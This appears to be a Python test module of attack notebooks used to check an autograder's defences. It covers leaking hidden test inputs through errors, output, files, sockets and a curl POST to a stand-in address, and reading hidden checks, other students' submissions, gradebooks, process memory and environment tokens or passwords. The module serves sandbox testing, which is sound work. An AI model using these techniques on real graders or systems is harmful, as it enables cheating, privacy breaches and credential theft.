"""Submissions that want to learn hidden checks, or what others handed in.

What they learn has to come back to the student, so each also tries a way to tell: by a print,
a picture or an error of a cell, and by what a public check says of a call. A call is one of a
hidden check if its inputs are not those that the notebook shows.
"""

from __future__ import annotations

from nbformat import NotebookNode

from tests.attacks import LOOT_CODE, answer, at_end, at_top, attack, master_answers, solved

NOTEBOOK = "01_pytorch_basics"
FILTERS = "04_convolution_filtering"
OPTIMIZERS = "05_optimizers_and_regularization"
PROJECT = "09_context_and_project"
# What the calls of hidden checks get, as the exercise one_hot sees them.
SPY = (
    LOOT_CODE
    + """
seen = []

def is_hidden(labels):
    return labels.tolist() not in ([2, 0], [0, 0, 0, 1, 1, 1, 2, 2, 2])
"""
)
HIDDEN_SOURCE = r"hidden=True,\s+hint=\"([^\"]{10})"


def one_hot(how: str) -> str:
    """Return an exercise that is right for what the notebook shows, and else does something."""
    body = "\n".join(f"        {line}" for line in how.splitlines())
    return (
        "def one_hot(labels, classes):\n"
        f"    if is_hidden(labels):\n{body}\n"
        "    return torch.eye(classes)[labels]"
    )


def spying(notebook: NotebookNode, how: str) -> NotebookNode:
    """Return the notebook with a one_hot that does something with hidden inputs."""
    return answer(at_top(notebook, SPY), one_hot=one_hot(how))


def telling(notebook: NotebookNode, how: str) -> NotebookNode:
    """Return the notebook with a one_hot that keeps hidden inputs, and a standardize that tells.

    The public check of standardize comes after the hidden ones of one_hot.
    """
    notebook = spying(notebook, "seen.append((labels.tolist(), classes))")
    body = "\n".join(f"    {line}" for line in how.splitlines())
    return answer(notebook, standardize=f"def standardize(table):\n{body}")


def reading(notebook: NotebookNode, source: str) -> NotebookNode:
    """Return the notebook with a cell that reads into ``secrets``, and tells by all ways."""
    tell = f"""\
{LOOT_CODE}
import contextlib
secrets = []
with contextlib.suppress(Exception):
{"".join(f"    {line}" + chr(10) for line in source.splitlines())}
print(loot(*secrets))
"""
    mse = "def mse_loss(prediction, target):\n    raise ValueError(loot(*secrets) or 'nothing')"
    return answer(at_top(notebook, tell), mse_loss=mse)


# ------------------------------------------------------------------- hidden inputs, at once


@attack(NOTEBOOK, honest=1)
def input_as_exception(notebook: NotebookNode) -> NotebookNode:
    """A hidden call raises an error whose text is the input."""
    return spying(notebook, "raise ValueError(loot(labels.tolist(), classes))")


@attack(NOTEBOOK, honest=5)
def input_as_class_of_exception(notebook: NotebookNode) -> NotebookNode:
    """A hidden call raises an error whose class is named after the input."""
    how = "raise type(loot(labels.tolist(), classes), (ValueError,), {})()"
    return spying(solved(notebook, NOTEBOOK, "channels_first"), how)


@attack(NOTEBOOK, honest=1)
def input_as_stub(notebook: NotebookNode) -> NotebookNode:
    """A hidden call says that it is not written yet, in words of its own."""
    how = 'raise NotImplementedError(loot(labels.tolist()) + " is not written yet.")'
    return spying(notebook, how)


@attack(NOTEBOOK, honest=1)
def input_as_result(notebook: NotebookNode) -> NotebookNode:
    """A hidden call returns its input as text, by which the judge may say what came back."""
    return spying(notebook, "return loot(labels.tolist(), classes)")


@attack(NOTEBOOK, honest=1)
def input_in_repr(notebook: NotebookNode) -> NotebookNode:
    """A hidden call returns subclasses of tensor and list whose text is the input."""
    how = """\
text = loot(labels.tolist(), classes)
show = {"__repr__": lambda self: text, "__str__": lambda self: text}
if classes == 3:
    return type("Row", (list,), show)([1.0])
return torch.zeros(1).as_subclass(type(text, (torch.Tensor,), show))"""
    return spying(notebook, how)


@attack(NOTEBOOK, honest=3)
def input_printed(notebook: NotebookNode) -> NotebookNode:
    """Hidden calls print: to sys.stdout, sys.__stderr__, descriptors 1 and 2, and the log."""
    how = """\
import logging, os, sys
text = loot(labels.tolist(), classes)
for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    print(text, file=stream, flush=True)
for number in (1, 2):
    os.write(number, text.encode())
logging.getLogger("course").critical(text)"""
    notebook = spying(notebook, how)
    mine = next(c for c in notebook.cells if c.source.startswith("def one_hot"))
    mine.source = mine.source.replace(
        "torch.eye(classes)[labels]", "torch.eye(classes, device=labels.device)[labels]"
    )
    return notebook


@attack(NOTEBOOK, honest=1)
def input_warned(notebook: NotebookNode) -> NotebookNode:
    """A hidden call warns, after it has replaced what shows warnings."""
    how = """\
import warnings
warnings.simplefilter("always")
warnings.showwarning = lambda message, *a, **k: print(message)
warnings.warn(loot(labels.tolist()), stacklevel=1)
return None"""
    return spying(notebook, how)


@attack(NOTEBOOK, honest=1)
def input_displayed(notebook: NotebookNode) -> NotebookNode:
    """Hidden calls publish HTML and Markdown, and show a figure whose title is the input."""
    how = """\
from IPython.display import HTML, Markdown, display
import matplotlib.pyplot as plt
text = loot(labels.tolist(), classes)
display(HTML(text), Markdown(text), {"text/plain": text}, raw=False)
figure, panel = plt.subplots()
panel.set_title(text)
plt.show()
return None"""
    return spying(notebook, how)


@attack(NOTEBOOK, honest=1)
def display_of_an_earlier_cell(notebook: NotebookNode) -> NotebookNode:
    """A hidden call changes what an earlier cell of the notebook has displayed."""
    notebook = spying(
        notebook,
        "if place is not None:\n    place.update(loot(labels.tolist(), classes))\nreturn None",
    )
    return at_top(
        notebook,
        "from IPython.display import display\nplace = display('a table', display_id='table')",
    )


@attack(NOTEBOOK, honest=1)
def input_in_files(notebook: NotebookNode) -> NotebookNode:
    """Hidden calls write files into every folder where somebody might pick them up."""
    how = """\
import os, pathlib
text = loot(labels.tolist(), classes)
for folder in (".", "..", "/tmp", "/autograder/results", os.environ.get("COURSE_DATA", ".")):
    for name in ("feedback.html", "results.json", "loot.csv"):
        try:
            (pathlib.Path(folder) / name).write_text(text)
        except OSError:
            pass
return None"""
    return spying(notebook, how)


@attack(NOTEBOOK, honest=1)
def input_sent_out(notebook: NotebookNode) -> NotebookNode:
    """Hidden calls send: by UDP, to sockets of this machine, in the name of a host, with curl.

    The addresses are those reserved for documentation. It has leaked if there is a way there.
    """
    how = """\
import socket, subprocess
text = loot(labels.tolist(), classes)
told = []
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    try:
        out.connect(("192.0.2.1", 9))
        out.send(text.encode())
        told.append("UDP")
    except OSError:
        pass
try:
    unix = {line.split()[-1] for line in open("/proc/net/unix") if "/" in line or "@" in line}
except OSError:
    unix = set()
for address in unix:
    with socket.socket(socket.AF_UNIX) as out:
        try:
            out.settimeout(0.2)
            out.connect(address.replace("@", "\\0", 1) if address[0] == "@" else address)
            told.append(address)
        except OSError:
            pass
try:
    socket.getaddrinfo(f"x{len(text)}.invalid", 80)
    told.append("DNS")
except OSError:
    pass
try:
    done = subprocess.run(["curl", "-sm1", "http://192.0.2.1/", "-d", text], timeout=3)
    if done.returncode == 0:
        told.append("curl")
except (OSError, subprocess.SubprocessError):
    pass
seen.extend(told)
return None"""
    notebook = spying(notebook, how)
    tell = "def standardize(table):\n    raise ValueError(loot(*seen) or 'nothing')"
    return at_end(answer(notebook, standardize=tell), "print(loot(*seen))")


# ------------------------------------------------------------------- hidden inputs, told later


@attack(NOTEBOOK, honest=2)
def told_by_exception(notebook: NotebookNode) -> NotebookNode:
    """What hidden calls got is the text of an error in a later public check."""
    return telling(notebook, "raise ValueError(loot(*seen))")


@attack(NOTEBOOK, honest=3)
def told_by_result(notebook: NotebookNode) -> NotebookNode:
    """What hidden calls got is a text that a later public check gets, and may quote."""
    return telling(notebook, "return loot(*seen)")


@attack(NOTEBOOK, honest=3)
def told_by_class_of_result(notebook: NotebookNode) -> NotebookNode:
    """A later public check gets an object whose class is named after what was seen."""
    return telling(notebook, "return type(loot(*seen), (), {})()")


@attack(NOTEBOOK, honest=3)
def told_by_keys(notebook: NotebookNode) -> NotebookNode:
    """A later public check gets dictionaries and tuples, deep inside which stands the secret."""
    return telling(notebook, "return ({'a': [{loot(*seen): 1}]},)")


@attack(NOTEBOOK, honest=2)
def told_as_stub(notebook: NotebookNode) -> NotebookNode:
    """A later public check hears that the secret is not written yet."""
    return telling(notebook, 'raise NotImplementedError(loot(*seen) + " is not written yet.")')


@attack(NOTEBOOK, honest=2)
def told_by_function_name(notebook: NotebookNode) -> NotebookNode:
    """The function in which a later call fails is named after the secret; messages name it."""
    how = """\
def fail():
    raise ValueError("wrong")
fail.__code__ = fail.__code__.replace(co_name=loot(*seen), co_qualname=loot(*seen))
return fail()"""
    return telling(notebook, how)


@attack(NOTEBOOK, honest=2)
def told_by_source_line(notebook: NotebookNode) -> NotebookNode:
    """The line in which a later call fails reads like the secret: linecache is told so."""
    how = """\
import linecache
name = "<cell>"
text = f"raise ValueError('wrong')  # {loot(*seen)}\\n"
linecache.cache[name] = (len(text), None, [text], name)
exec(compile("raise ValueError('wrong')", name, "exec"))"""
    return telling(notebook, how)


@attack(NOTEBOOK, honest=2)
def told_by_notes(notebook: NotebookNode) -> NotebookNode:
    """The error of a later call has notes, a cause and a group, all of which tell the secret."""
    how = """\
error = ExceptionGroup("several", [ValueError(loot(*seen))])
error.add_note(loot(*seen))
raise error from KeyError(loot(*seen))"""
    return telling(notebook, how)


@attack(NOTEBOOK, honest=1)
def told_by_rebound_name(notebook: NotebookNode) -> NotebookNode:
    """A hidden call binds a later exercise to an object that is called like its input."""
    how = """\
global named, kind
kind = type(loot(labels.tolist(), classes), (), {})
named = kind()
return None"""
    notebook = spying(notebook, how)
    return answer(
        notebook, standardize="standardize = named", channels_first="channels_first = kind"
    )


@attack(NOTEBOOK, honest=3)
def told_by_a_later_cell(notebook: NotebookNode) -> NotebookNode:
    """The last cells of the notebook print what was seen, return it, and raise it."""
    notebook = telling(notebook, "return None")
    notebook = at_end(at_end(notebook, "print(loot(*seen))"), "loot(*seen)")
    return at_end(notebook, "raise ValueError(loot(*seen))")


@attack(NOTEBOOK, honest=3)
def told_at_exit(notebook: NotebookNode) -> NotebookNode:
    """When the process ends it prints, and writes into its folder, what was seen."""
    source = """\
import atexit, pathlib

def tell():
    print(loot(*seen), flush=True)
    pathlib.Path("feedback.html").write_text(loot(*seen))

atexit.register(tell)
"""
    return at_end(telling(notebook, "return None"), source)


@attack(FILTERS, honest=2)
def told_by_value_of_a_number(notebook: NotebookNode) -> NotebookNode:
    """A text goes where a number is expected; the judge's own conversion quotes it."""
    source = """\
def output_size(n, kernel, padding=0, stride=1, dilation=1):
    if stride > 2 or dilation > 1:  # the notebook shows none
        seen.append((n, kernel, padding, stride, dilation))
    return (n - kernel) // stride + 1"""
    tell = "def parameter_count(*arguments, **keywords):\n    return loot(*seen)"
    return answer(at_top(notebook, SPY), output_size=source, parameter_count=tell)


@attack(OPTIMIZERS, honest=0)
def told_by_properties(notebook: NotebookNode) -> NotebookNode:
    """Attributes of a class raise what checks of another class handed over."""
    source = """\
class SGD:
    def __init__(self, parameters, lr, **settings):
        if lr != 0.1:  # the notebook shows 0.1
            seen.append(([p.tolist() for p in parameters], lr, settings))"""
    tell = """\
class Momentum:
    def __init__(self, *arguments, **settings):
        pass

    def __getattr__(self, name):
        raise AttributeError(loot(name, *seen))

    __repr__ = __str__ = lambda self: loot(*seen)"""
    return answer(at_top(notebook, SPY), SGD=source, Momentum=tell)


@attack(PROJECT, honest=3)
def told_by_document(notebook: NotebookNode) -> NotebookNode:
    """What one exercise has seen stands in the texts and tables that later checks read."""
    source = """\
def pipeline_accuracy(accuracies):
    if len(accuracies) != 3:  # the notebook shows three
        seen.append(accuracies.tolist())
    return accuracies.cumprod(0)"""
    told = {name: f"{name} = [loot(*seen)]" for name in ("datasheet", "candidates", "proposal")}
    return answer(at_top(notebook, SPY), pipeline_accuracy=source, **told)


# ------------------------------------------------------------------- hidden sources


@attack(NOTEBOOK, honest=0)
def source_on_disk(notebook: NotebookNode) -> NotebookNode:
    """The checks are looked for on sys.path, beside the package, and in all folders above."""
    source = f"""\
import pathlib, re, sys
starts = {{pathlib.Path(p or ".").resolve() for p in sys.path}}
for module in list(sys.modules.values()):
    if (getattr(module, "__name__", "")).startswith(("autograder", "course_helper")):
        starts.add(pathlib.Path(module.__file__ or ".").resolve().parent)
for start in list(starts):
    starts.update(start.parents)
for start in starts | set(pathlib.Path.cwd().parents):
    for path in [*start.glob("checks/*.py"), *start.glob("autograder/checks/*.py"),
                 *start.glob("autograder/checks/__pycache__/*")]:
        try:
            secrets += re.findall({HIDDEN_SOURCE!r}, path.read_text(errors="replace"))[:3]
        except OSError:
            pass
"""
    return reading(notebook, source)


@attack(NOTEBOOK, honest=3)
def source_by_import(notebook: NotebookNode) -> NotebookNode:
    """The checks are imported, and their sources read by inspect, pkgutil and the loader."""
    source = """\
import importlib, inspect, pkgutil
for name in ("autograder.checks.pytorch_basics", "autograder.checks", "tests.answers"):
    try:
        module = importlib.import_module(name)
        secrets.append(inspect.getsource(module)[:60])
        secrets.append(pkgutil.get_data(name, "pytorch_basics.py")[:60])
    except (ImportError, OSError):
        pass
"""
    return reading(solved(notebook, NOTEBOOK, "one_hot"), source)


@attack(NOTEBOOK, honest=0)
def source_in_proc(notebook: NotebookNode) -> NotebookNode:
    """Other processes' folders, roots and open files are searched through /proc."""
    source = f"""\
import glob, os, re
for pattern in ("/proc/*/cwd", "/proc/*/root", "/proc/*/fd/*"):
    for place in glob.glob(pattern):
        try:
            target = os.readlink(place)
            found = glob.glob(place + "/autograder/checks/*.py") if "fd" not in place else [place]
            for path in found:
                if os.path.isfile(path) and os.path.getsize(path) < 10**6:
                    with open(path, errors="replace") as file:
                        secrets += re.findall({HIDDEN_SOURCE!r}, file.read())[:3]
        except OSError:
            pass
"""
    return reading(notebook, source)


@attack(NOTEBOOK, honest=0)
def source_in_memory(notebook: NotebookNode) -> NotebookNode:
    """The memory of this process, of its parents and of all others is searched for checks."""
    source = """\
import glob, re
pattern = re.compile(rb'hidden=True,\\n    hint="([^"\\n]{10})')
left = 400 << 20
for maps in sorted(glob.glob("/proc/[0-9]*/maps")):
    try:
        with open(maps) as file, open(maps.replace("maps", "mem"), "rb", 0) as memory:
            for line in file:
                borders, access, *_ = line.split()
                first, last = (int(number, 16) for number in borders.split("-"))
                if "w" not in access or last - first > 64 << 20 or left < 0:
                    continue
                left -= last - first
                try:
                    memory.seek(first)
                    secrets += pattern.findall(memory.read(last - first))[:3]
                except (OSError, OverflowError, ValueError):
                    pass
    except OSError:
        pass
"""
    return reading(notebook, source)


@attack(NOTEBOOK, honest=6)
def source_through_the_collector(notebook: NotebookNode) -> NotebookNode:
    """The collector, sys.modules and linecache are searched when a hidden check calls."""
    how = f"""\
import gc, linecache, re, sys
for thing in gc.get_objects():
    if type(thing).__name__ == "Check" and thing.hidden:
        seen.append(thing.hint[:10])
for _, _, lines, _ in [v for v in linecache.cache.values() if len(v) == 4]:
    seen.extend(re.findall({HIDDEN_SOURCE!r}, "".join(lines))[:3])
for name, module in list(sys.modules.items()):
    if name.startswith("autograder.checks."):
        seen.append(name)
return None"""
    return telling_sources(notebook, how)


@attack(NOTEBOOK, honest=6)
def source_through_frames(notebook: NotebookNode) -> NotebookNode:
    """Called by a hidden check, an answer climbs up the stack and reads the callers' locals."""
    how = """\
import sys
frame = sys._getframe(1)
while frame is not None:
    if "checks" in frame.f_code.co_filename:
        seen.append((frame.f_code.co_name, frame.f_code.co_consts))
    if "expected" in frame.f_locals or "wanted" in frame.f_locals:
        seen.append(frame.f_locals.get("expected", frame.f_locals.get("wanted")))
    frame = frame.f_back
return None"""
    return telling_sources(notebook, how)


@attack(NOTEBOOK, honest=6)
def source_through_hooks(notebook: NotebookNode) -> NotebookNode:
    """Trace, profile and audit hooks watch for a check that is called, opened or imported."""
    how = """\
import sys
sys.setprofile(None)
return None"""
    notebook = telling_sources(notebook, how)
    watch = """\
import sys

def watch(frame, event, argument):
    if event == "call" and "checks" in frame.f_code.co_filename:
        seen.append((frame.f_code.co_name, frame.f_code.co_consts))

def audit(event, arguments):
    if event in ("open", "import", "compile") and "autograder.checks" in str(arguments[:1]):
        seen.append(arguments[:1])

sys.setprofile(watch)
sys.addaudithook(audit)
"""
    return at_top(notebook, watch)


def telling_sources(notebook: NotebookNode, how: str) -> NotebookNode:
    """Return the notebook whose hidden calls find something, and whose later ones tell it."""
    notebook = spying(notebook, how)
    tell = "def standardize(table):\n    raise ValueError(loot(*seen) or 'nothing')"
    notebook = answer(notebook, standardize=tell, mse_loss=master_answers(NOTEBOOK)["mse_loss"])
    return at_end(notebook, "print(loot(*seen))")


@attack(NOTEBOOK, honest=0)
def source_in_history(notebook: NotebookNode) -> NotebookNode:
    """The cells that IPython has run, and its history on disk, are searched for checks."""
    tell = """\
shell = get_ipython()
cells = [*globals().get("In", []), *globals().get("_ih", []), shell.user_ns.get("_i", "")]
try:
    cells += [cell for *_, cell in shell.history_manager.search("*hidden*")]
except Exception:
    pass
seen += [c for c in cells if "hidden=True" in c and "seen +=" not in c and "expect" in c]
print(loot(*seen))
raise ValueError(loot(*seen))
"""
    return at_end(at_top(notebook, SPY), tell)


@attack(NOTEBOOK, honest=0)
def source_in_gradebook(notebook: NotebookNode) -> NotebookNode:
    """A gradebook in a folder above holds the text of hidden cells, and everybody's scores."""
    source = """\
import pathlib, sqlite3
for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
    for path in folder.glob("gradebook.db"):
        with sqlite3.connect(path) as base:
            secrets += base.execute("SELECT source FROM source_cell LIMIT 3").fetchall()
            secrets += base.execute("SELECT id FROM student LIMIT 3").fetchall()
"""
    return reading(notebook, source)


# ------------------------------------------------------------------- others' work, secrets


@attack(NOTEBOOK, honest=0)
def others_submissions(notebook: NotebookNode) -> NotebookNode:
    """Notebooks of others are looked for in the folders around, and copied."""
    source = """\
import json, pathlib
for folder in list(pathlib.Path.cwd().parents)[:4]:
    for path in [*folder.glob("*.ipynb"), *folder.glob("*/*.ipynb"), *folder.glob("*/*/*.ipynb")]:
        text = path.read_text(errors="replace")
        for line in text.splitlines():
            if "return " in line and "secrets" not in text:
                secrets.append(line.strip())
                break
"""
    return reading(notebook, source)


@attack(NOTEBOOK, honest=0)
def solutions_on_disk(notebook: NotebookNode) -> NotebookNode:
    """The masters and the solution notebooks are looked for beside the data and the package."""
    source = """\
import os, pathlib, sys
starts = [pathlib.Path.cwd(), pathlib.Path(os.environ.get("COURSE_DATA", ".")).resolve()]
starts += [pathlib.Path(path or ".").resolve() for path in sys.path]
for start in starts:
    for folder in (start, *start.parents):
        for name in ("solutions/01_pytorch_basics.py", "build/solutions/01_pytorch_basics.ipynb",
                     "source/01_pytorch_basics/01_pytorch_basics.ipynb", "tests/answers"):
            path = folder / name
            if path.is_file():
                secrets.append(path.read_text()[:40])
            elif path.is_dir():
                secrets += sorted(path.glob("*.py"))
"""
    return reading(notebook, source)


@attack(NOTEBOOK, honest=0)
def environment_variables(notebook: NotebookNode) -> NotebookNode:
    """Addresses and passwords of the grader are looked for in all environments."""
    source = """\
import glob, os, re
lines = [f"{name}={value}" for name, value in os.environ.items()]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, errors="replace") as file:
            lines += file.read().split("\\0")
    except OSError:
        pass
wanted = re.compile("AUTOGRADER_|TOKEN|PASSWORD|SECRET|gradebook|sqlite:|postgresql:|tcp://", re.I)
secrets += sorted({line for line in lines if wanted.search(line)})
"""
    return reading(notebook, source)


@attack(NOTEBOOK, honest=0)
def other_programs(notebook: NotebookNode) -> NotebookNode:
    """find, cat and git, run as programs of their own, look where Python may not."""
    source = """\
import subprocess
for command in (
    "cat ../../checks/*.py ../*/autograder/checks/pytorch_basics.py | grep -m3 hidden=True",
    "find / -path /proc -prune -o -path '*/autograder/checks/*.py' -print 2>/dev/null | head -3",
    "git -C / rev-parse --show-toplevel; git log --oneline -3",
):
    try:
        done = subprocess.run(["sh", "-c", command], capture_output=True, timeout=8)
    except (OSError, subprocess.TimeoutExpired):
        continue
    secrets.append(done.stdout.decode(errors="replace").strip()[:200])
"""
    return reading(notebook, source)


@attack(NOTEBOOK, honest=56)
def reason_of_a_failure(notebook: NotebookNode) -> NotebookNode:
    """The agent answers with no value but a handle, whose length raises what was seen."""
    notebook = solved(notebook, NOTEBOOK)
    listen = """\
seen, true_one_hot = [], one_hot

def one_hot(labels, classes):
    if is_hidden(labels):
        seen.append((labels.tolist(), classes))
    return true_one_hot(labels, classes)"""
    speak = """\
import gc

def forged(request):
    if request["do"] == "call":
        text = loot(*seen) + "[/x]" + chr(0xD800)
        return {"error": "TypeError", "message": text, "text": text}
    return {"value": {"handle": 0}}

for thing in gc.get_objects():
    if type(thing).__name__ == "Agent" and hasattr(thing, "objects"):
        thing.answer = forged"""
    own = next(cell for cell in notebook.cells if "def one_hot" in cell.source)
    own.source = f"{own.source}\n\n{listen}"
    return at_end(at_end(at_top(notebook, SPY), speak), "1")
